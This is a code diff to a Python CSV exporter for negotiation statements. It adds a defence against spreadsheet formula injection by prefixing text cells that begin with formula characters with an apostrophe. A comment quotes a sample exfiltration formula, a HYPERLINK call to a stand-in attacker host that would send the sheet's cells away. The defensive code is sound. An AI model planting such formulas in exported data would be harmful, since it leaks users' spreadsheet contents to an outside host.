@@ -1,7 +1,9 @@
 """Export a negotiation's statements as readers see them (formats.md §3).
 
 Hand corrections are applied (`Statement.effective`) and rejected statements left out. Rows are
-written as they are read, so a large negotiation is never held in memory whole.
+written as they are read, so a large negotiation is never held in memory whole. `write_csv` is
+the one CSV writer of Parley (the export and the grid and matrix downloads): no text cell it
+writes starts with a spreadsheet formula character.
 """
 
 from __future__ import annotations
@@ -125,14 +127,24 @@ def _write_jsonl(rows: Iterator[dict[str, Any]], out: Writable) -> int:
     return count
 
 
+# A spreadsheet runs a cell that starts with one of these as a formula (=, + and - start
+# arithmetic, @ a function in older Excel; a tab or carriage return before them is skipped
+# when the file is opened): "=HYPERLINK(\"http://evil.example/?\"&A1)" in an article's text
+# would send the sheet's cells away. A leading ' makes the cell text; the JSON keeps the value.
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
 def csv_value(value: Any) -> Any:
-    """A JSON-typed value as a CSV cell: none is empty, booleans are words, lists join with "; "."""
+    """A JSON-typed value as a CSV cell: none is empty, booleans are words, lists join with "; ",
+    and text a spreadsheet would run as a formula starts with an apostrophe."""
     if value is None:
         return ""
     if isinstance(value, bool):
         return "true" if value else "false"
     if isinstance(value, list):
-        return "; ".join(value)
+        value = "; ".join(value)
+    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
+        return "'" + value
     return value
 
 
